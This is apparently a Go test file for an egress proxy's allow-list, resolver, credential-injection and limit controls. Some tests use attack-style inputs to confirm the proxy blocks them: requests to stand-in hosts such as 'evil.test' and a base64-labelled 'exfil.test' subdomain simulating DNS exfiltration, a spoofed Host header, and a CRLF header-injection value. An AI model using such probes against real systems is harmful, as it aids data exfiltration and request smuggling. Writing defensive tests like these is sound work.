package egress

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/google/go-cmp/cmp"

	"github.com/toold/toold/internal/egress/egresstest"
)

// TestAllowListDecides: through the proxy, an allowed host answers (its
// own certificate, checked by the client: a plain tunnel), and everything
// else is refused with 403 naming the host, the reason and the allow-list,
// each refusal listed once in the report and counted per tool.
func TestAllowListDecides(t *testing.T) {
	ca := egresstest.NewCA(t)
	srv := ca.Server(t, "api.test", "private.test")
	port := strconv.Itoa(srv.Port)
	f := serve(t, Policy{Allow: []string{"api.test:" + port, "127.0.0.1:" + port, "other.test", "private.test:" + port}},
		map[string]string{"api.test": "127.0.0.1", "private.test": "127.0.0.1"}, RunOptions{DenyPorts: []int{9}})
	c := f.client(ca.Pool())
	if code, body := get(c, "https://api.test:"+port+"/x"); code != 200 || !strings.Contains(body, `"path":"/x"`) {
		t.Fatalf("allowed host: %d %s", code, body)
	}
	for _, tc := range []struct{ url, reason string }{
		{"https://evil.test/", ReasonNotAllowed},
		{"https://api.test:444/", ReasonPort},
		{"https://other.test:" + port + "/", ReasonPort},
		{"https://evil.test/", ReasonNotAllowed},
		{"https://api.test:9/", ReasonTooldPort},
	} {
		code, body := get(c, tc.url)
		if code != 0 || !strings.Contains(body, "Forbidden") {
			t.Errorf("%s: %d %q, want the CONNECT refused with 403", tc.url, code, body)
		}
	}
	// A plain request shows the body a program reads.
	code, body := get(c, "http://evil.test/")
	for _, want := range []string{"evil.test:80 refused (not_allowed)", "allow-list: api.test:" + port + ", 127.0.0.1:" + port, "X-Toold-Egress-Refused: not_allowed"} {
		if code != 403 || !strings.Contains(body, want) {
			t.Errorf("plain refusal: %d %q lacks %q", code, body, want)
		}
	}
	rep := f.run.Close()
	want := []Refusal{{"evil.test", 443, ReasonNotAllowed, 2}, {"api.test", 444, ReasonPort, 1},
		{"other.test", srv.Port, ReasonPort, 1}, {"api.test", 9, ReasonTooldPort, 1}, {"evil.test", 80, ReasonNotAllowed, 1}}
	if d := cmp.Diff(want, rep.Refused); d != "" {
		t.Errorf("refused (-want +got):\n%s", d)
	}
	if rep.Connections != 1 || rep.Bytes == 0 {
		t.Errorf("report: %+v", rep)
	}
	if got := f.counter(t, "toold_egress_refused_total", "t"); got != 6 {
		t.Errorf("refused counter %v, want 6", got)
	}
}

// TestNamesResolvingInsideAreRefused: an allowed name whose address is
// loopback or private is refused unless that address is listed for the
// port; toold resolves the names, and only those the list allows.
func TestNamesResolvingInsideAreRefused(t *testing.T) {
	ca := egresstest.NewCA(t)
	srv := ca.Server(t, "inside.test")
	port := strconv.Itoa(srv.Port)
	names := map[string]string{"inside.test": "127.0.0.1"}
	f := serve(t, Policy{Allow: []string{"inside.test:" + port, "127.0.0.1:1"}}, names, RunOptions{})
	code, body := get(f.client(ca.Pool()), "https://inside.test:"+port+"/")
	if code != 0 || !strings.Contains(body, "Forbidden") {
		t.Fatalf("a name on loopback, its address not listed for the port: %d %s", code, body)
	}
	if d := cmp.Diff([]Refusal{{"inside.test", srv.Port, ReasonPrivateAddress, 1}}, f.run.Close().Refused); d != "" {
		t.Error(d)
	}
	f = serve(t, Policy{Allow: []string{"inside.test:" + port, "127.0.0.1:" + port}}, names, RunOptions{})
	if code, body := get(f.client(ca.Pool()), "https://inside.test:"+port+"/"); code != 200 {
		t.Fatalf("listed: %d %s", code, body)
	}
}

// TestOnlyAllowedNamesAreResolved: toold looks up a name only once the
// allow-list admits it: a run cannot send data out in the names it asks
// for (DNS exfiltration) through toold's resolver.
func TestOnlyAllowedNamesAreResolved(t *testing.T) {
	var mu sync.Mutex
	var asked []string
	reg := prometheus.NewRegistry()
	c, err := Compile(Policy{Allow: []string{"api.test:1"}}, Options{Metrics: NewMetrics(reg),
		Resolver: egresstest.Resolver(nil, func(n string) { mu.Lock(); asked = append(asked, n); mu.Unlock() })})
	if err != nil {
		t.Fatal(err)
	}
	r, err := c.NewRun(context.Background(), RunOptions{})
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	r.Serve(ln)
	defer r.Close()
	cl := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: ln.Addr().String()})}}
	for _, u := range []string{"https://c2VjcmV0.exfil.test/", "http://data.exfil.test/", "https://api.test/", "https://api.test:1/"} {
		if resp, err := cl.Get(u); err == nil {
			resp.Body.Close()
		}
	}
	mu.Lock()
	defer mu.Unlock()
	for _, n := range asked {
		if n != "api.test" {
			t.Errorf("toold resolved %q", n)
		}
	}
	if len(asked) == 0 {
		t.Error("the allowed name was not resolved")
	}
}

// TestInjectedHeader: for an inject host the proxy terminates TLS with
// the run's authority (the client trusts only the run's bundle), the
// header reaches the server whatever the client sent in it, and the
// server's echo of it, in headers and body, gzip-compressed or not, is
// redacted before the client reads it.
func TestInjectedHeader(t *testing.T) {
	ca := egresstest.NewCA(t)
	srv := ca.Server(t, "api.test")
	port := strconv.Itoa(srv.Port)
	const secret = "s3cr3t-token-0123456789"
	f := serve(t, Policy{Allow: []string{"api.test:" + port, "127.0.0.1:" + port},
		Inject:  []Inject{{Host: "api.test", Header: "authorization", Value: "Bearer " + secret}},
		CAFiles: []string{ca.File}}, map[string]string{"api.test": "127.0.0.1"}, RunOptions{})
	c := f.client(f.bundlePool(t))
	for _, path := range []string{"/plain", "/gzip"} {
		code, body := get(c, "https://api.test:"+port+path, "Authorization", "Bearer placeholder", "Accept-Encoding", "gzip")
		if code != 200 {
			t.Fatalf("%s: %d %s", path, code, body)
		}
		if strings.Contains(body, secret) || !strings.Contains(body, Redacted) {
			t.Errorf("%s: the echo reached the client unredacted:\n%s", path, body)
		}
	}
	seen := srv.Seen()
	if len(seen) != 2 {
		t.Fatalf("server saw %d requests", len(seen))
	}
	for _, s := range seen {
		if got := s.Header.Values("Authorization"); len(got) != 1 || got[0] != "Bearer "+secret {
			t.Errorf("server got Authorization %q", got)
		}
	}
	// The run's authority is constrained to its injected hosts.
	if got := f.run.ca.cert.PermittedDNSDomains; len(got) != 1 || got[0] != "api.test" {
		t.Errorf("the run's authority may sign for %v", got)
	}
	// A tunnelled host (no header) is checked by the client with the
	// bundle, which holds ca_files: the test's CA.
	if code, body := get(c, "https://127.0.0.1:"+port+"/"); code != 200 || strings.Contains(body, secret) {
		t.Errorf("a tunnelled host: %d %s", code, body)
	}
}

// TestTerminatedTunnelHoldsItsHost: inside a tunnel toold terminates,
// a request for another host is refused (421), not sent with the header;
// plain http to an inject host and a protocol upgrade are refused too.
func TestTerminatedTunnelHoldsItsHost(t *testing.T) {
	ca := egresstest.NewCA(t)
	srv := ca.Server(t, "api.test")
	port := strconv.Itoa(srv.Port)
	f := serve(t, Policy{Allow: []string{"api.test:" + port, "api.test", "127.0.0.1:" + port},
		Inject: []Inject{{Host: "api.test", Header: "X-Key", Value: "k-0123456789"}}, CAFiles: []string{ca.File}},
		map[string]string{"api.test": "127.0.0.1"}, RunOptions{})
	c := f.client(f.bundlePool(t))
	req, _ := http.NewRequest(http.MethodGet, "https://api.test:"+port+"/", nil)
	req.Host = "evil.test"
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusMisdirectedRequest || resp.Header.Get("X-Toold-Egress-Refused") != ReasonHostMismatch {
		t.Errorf("another Host inside the tunnel: %d %v", resp.StatusCode, resp.Header)
	}
	if code, _ := get(c, "https://api.test:"+port+"/", "Upgrade", "websocket", "Connection", "Upgrade"); code != 403 {
		t.Errorf("upgrade: %d", code)
	}
	if code, body := get(c, "http://api.test/"); code != 403 || !strings.Contains(body, ReasonPlainHTTP) {
		t.Errorf("plain http to an inject host: %d %s", code, body)
	}
	if n := len(srv.Seen()); n != 0 {
		t.Errorf("the server was reached %d times", n)
	}
}

// TestCallerCredential: ${user:NAME} is resolved per run through the
// run's Resolver, at the first request; a caller without it is refused
// naming the credential, and one the vault cannot open is refused.
func TestCallerCredential(t *testing.T) {
	ca := egresstest.NewCA(t)
	srv := ca.Server(t, "api.test")
	port := strconv.Itoa(srv.Port)
	p := Policy{Allow: []string{"api.test:" + port, "127.0.0.1:" + port}, CAFiles: []string{ca.File},
		Inject: []Inject{{Host: "api.test", Header: "Authorization", Value: "token ${user:github}"}}}
	names := map[string]string{"api.test": "127.0.0.1"}
	calls := 0
	alice := func(_ context.Context, name string) ([]byte, error) {
		calls++
		if name != "github" {
			return nil, fmt.Errorf("%w: %s", ErrNoCredential, name)
		}
		return []byte("alice-pat-0123456789"), nil
	}
	nobody := func(context.Context, string) ([]byte, error) { return nil, ErrNoCredential }
	for _, tc := range []struct {
		name   string
		creds  Resolver
		status int
		reason string
	}{
		{"alice", alice, 200, ""},
		{"no such credential", nobody, 403, ReasonNoCredential},
		{"the vault cannot open it", nil, 403, ReasonCredential},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := serve(t, p, names, RunOptions{Credentials: tc.creds})
			c := f.client(f.bundlePool(t))
			for range 2 {
				code, body := get(c, "https://api.test:"+port+"/")
				if code != tc.status || (tc.reason != "" && !strings.Contains(body, tc.reason)) || strings.Contains(body, "alice-pat") {
					t.Fatalf("%d %s", code, body)
				}
			}
		})
	}
	if calls != 1 {
		t.Errorf("the resolver was asked %d times for two requests of one run", calls)
	}
	if s := srv.Seen(); len(s) != 2 || s[0].Header.Get("Authorization") != "token alice-pat-0123456789" {
		t.Errorf("server saw %+v", s)
	}
}

// TestBounds: network.max_connections refuses the destination past it;
// network.max_bytes ends the connection that passes it.
func TestBounds(t *testing.T) {
	ca := egresstest.NewCA(t)
	srv := ca.Server(t, "api.test")
	port := strconv.Itoa(srv.Port)
	names := map[string]string{"api.test": "127.0.0.1"}
	allow := []string{"api.test:" + port, "127.0.0.1:" + port}
	f := serve(t, Policy{Allow: allow, MaxConnections: 2}, names, RunOptions{})
	c := f.client(ca.Pool())
	for i, want := range []int{200, 200, 0} {
		if code, body := get(c, "https://api.test:"+port+"/"); code != want {
			t.Errorf("connection %d: %d %s", i+1, code, body)
		}
	}
	if r := f.run.Close().Refused; len(r) != 1 || r[0].Reason != ReasonConnections {
		t.Errorf("refused: %+v", r)
	}
	f = serve(t, Policy{Allow: allow, MaxBytes: 2000}, names, RunOptions{})
	c = f.client(ca.Pool())
	var failed bool
	for range 5 {
		if code, _ := get(c, "https://api.test:"+port+"/"); code != 200 {
			failed = true
			break
		}
	}
	rep := f.run.Close()
	if !failed || len(rep.Refused) != 1 || rep.Refused[0].Reason != ReasonBytes {
		t.Errorf("past max_bytes: failed %v, report %+v", failed, rep)
	}
}

// TestNotAProxyRequest: what is not a proxy request gets 400 naming why,
// and the run's end answers 503 / closes everything.
func TestNotAProxyRequest(t *testing.T) {
	f := serve(t, Policy{Allow: []string{"api.test"}}, nil, RunOptions{})
	conn, err := net.Dial("tcp", f.proxy.Host)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	fmt.Fprintf(conn, "GET /secret HTTP/1.1\r\nHost: api.test\r\n\r\n")
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != 400 || !strings.Contains(string(b), "egress proxy") {
		t.Errorf("%d %s", resp.StatusCode, b)
	}
	f.run.Close()
	if c, err := net.Dial("tcp", f.proxy.Host); err == nil {
		c.Close()
		t.Error("the listener outlived the run")
	}
}

// TestPolicyCheck: each problem names its key and what to do.
func TestPolicyCheck(t *testing.T) {
	ca := egresstest.NewCA(t)
	for _, tc := range []struct {
		name  string
		p     Policy
		vault bool
		want  string // "" = valid
	}{
		{"valid", Policy{Allow: []string{"api.github.com", "*.npmjs.org", "127.0.0.1:8443", "[::1]:8443", "10.0.0.1"},
			Inject: []Inject{{Host: "api.github.com", Header: "Authorization", Value: "Bearer x"}}, CAFiles: []string{ca.File}}, false, ""},
		{"empty", Policy{}, false, "allow: empty"},
		{"bad port", Policy{Allow: []string{"a.test:99999"}}, false, "allow[0]"},
		{"public suffix", Policy{Allow: []string{"*.co.uk"}}, false, "public suffix"},
		{"localhost", Policy{Allow: []string{"localhost:8080"}}, false, "127.0.0.1:PORT"},
		{"numeric", Policy{Allow: []string{"0x7f.1"}}, false, "dotted-decimal"},
		{"unspecified", Policy{Allow: []string{"0.0.0.0:80"}}, false, "unspecified"},
		{"inject not allowed", Policy{Allow: []string{"a.test"}, Inject: []Inject{{Host: "b.test", Header: "X-K", Value: "v"}}}, false, "inject[0].host"},
		{"inject under wildcard", Policy{Allow: []string{"*.a.test"}, Inject: []Inject{{Host: "x.a.test", Header: "X-K", Value: "v"}}}, false, ""},
		{"inject wildcard wider", Policy{Allow: []string{"x.a.test"}, Inject: []Inject{{Host: "*.a.test", Header: "X-K", Value: "v"}}}, false, "not in allow"},
		{"inject port", Policy{Allow: []string{"a.test"}, Inject: []Inject{{Host: "a.test:443", Header: "X-K", Value: "v"}}}, false, "without a port"},
		{"framing header", Policy{Allow: []string{"a.test"}, Inject: []Inject{{Host: "a.test", Header: "Content-Length", Value: "1"}}}, false, "frames"},
		{"proxy header", Policy{Allow: []string{"a.test"}, Inject: []Inject{{Host: "a.test", Header: "Proxy-Authorization", Value: "1"}}}, false, "frames"},
		{"control char", Policy{Allow: []string{"a.test"}, Inject: []Inject{{Host: "a.test", Header: "X-K", Value: "a\r\nX: y"}}}, false, "control character"},
		{"user without vault", Policy{Allow: []string{"a.test"}, Inject: []Inject{{Host: "a.test", Header: "X-K", Value: "${user:gh}"}}}, false, "credentials.key"},
		{"user with vault", Policy{Allow: []string{"a.test"}, Inject: []Inject{{Host: "a.test", Header: "X-K", Value: "${user:gh}"}}}, true, ""},
		{"bad credential name", Policy{Allow: []string{"a.test"}, Inject: []Inject{{Host: "a.test", Header: "X-K", Value: "${user:a b}"}}}, true, "not a credential name"},
		{"unexpanded", Policy{Allow: []string{"a.test"}, Inject: []Inject{{Host: "a.test", Header: "X-K", Value: "${TOKEN}"}}}, true, "expanded when the configuration loads"},
		{"ca file", Policy{Allow: []string{"a.test"}, CAFiles: []string{"rel.pem"}}, false, "ca_files[0]"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := tc.p.Check(tc.vault)
			switch {
			case tc.want == "" && err != nil:
				t.Fatalf("refused: %v", err)
			case tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want)):
				t.Fatalf("got %v, want it to say %q", err, tc.want)
			}
		})
	}
}

// TestProxyCredentials: a run's proxy with a token (macOS, where it
// listens on toold's loopback) answers 407 to a request without the run's
// credentials, and serves the one its HTTPS_PROXY makes.
func TestProxyCredentials(t *testing.T) {
	ca := egresstest.NewCA(t)
	srv := ca.Server(t, "api.test")
	port := strconv.Itoa(srv.Port)
	f := serve(t, Policy{Allow: []string{"api.test:" + port, "127.0.0.1:" + port}}, map[string]string{"api.test": "127.0.0.1"},
		RunOptions{Token: "run-token-123"})
	if code, body := get(f.client(ca.Pool()), "https://api.test:"+port+"/"); code != 0 || !strings.Contains(body, "Proxy Authentication Required") {
		t.Errorf("without the run's credentials: %d %s", code, body)
	}
	var proxy string
	for _, kv := range f.run.Env(f.proxy.Host, "") {
		if v, ok := strings.CutPrefix(kv, "HTTPS_PROXY="); ok {
			proxy = v
		}
	}
	u, err := url.Parse(proxy)
	if err != nil || u.User.String() != "toold:run-token-123" {
		t.Fatalf("HTTPS_PROXY=%q", proxy)
	}
	f.proxy = u
	if code, body := get(f.client(ca.Pool()), "https://api.test:"+port+"/"); code != 200 {
		t.Errorf("with them: %d %s", code, body)
	}
	if s := srv.Seen(); len(s) != 1 || s[0].Header.Get("Proxy-Authorization") != "" {
		t.Errorf("the server saw %+v", s)
	}
}
